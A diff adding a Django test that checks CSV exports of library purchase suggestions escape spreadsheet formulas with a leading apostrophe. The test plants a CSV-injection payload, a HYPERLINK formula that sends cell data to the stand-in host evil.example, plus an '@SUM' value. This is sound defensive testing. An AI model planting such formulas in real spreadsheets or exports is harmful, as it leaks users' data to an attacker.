@@ -330,6 +330,21 @@ def test_csv_exports(client, world):
     assert rows[1] == ["Hypérion", "Simmons, Dan", "2", "1"]
 
 
+def test_csv_exports_never_hand_a_formula_to_the_spreadsheet(client, world):
+    """A member typed the suggestion's title: a cell Excel would run as a formula (CSV
+    injection) is written as text, with a leading apostrophe."""
+    from community.models import PurchaseSuggestion
+
+    title = '=HYPERLINK("https://evil.example/?"&A1;"Voir")'
+    PurchaseSuggestion.objects.filter(title="La Horde du Contrevent").update(
+        title=title, author="@SUM(1+1)"
+    )
+    client.force_login(world["librarian"])
+    rows = parse_csv(client.get(reverse("reach_demand_list_csv", args=["suggestions"])))
+    [row] = [row for row in rows[1:] if "HYPERLINK" in row[0]]
+    assert row[0] == "'" + title and row[1] == "'@SUM(1+1)"
+
+
 def count_queries(client, url) -> int:
     from django.db import connection
     from django.test.utils import CaptureQueriesContext
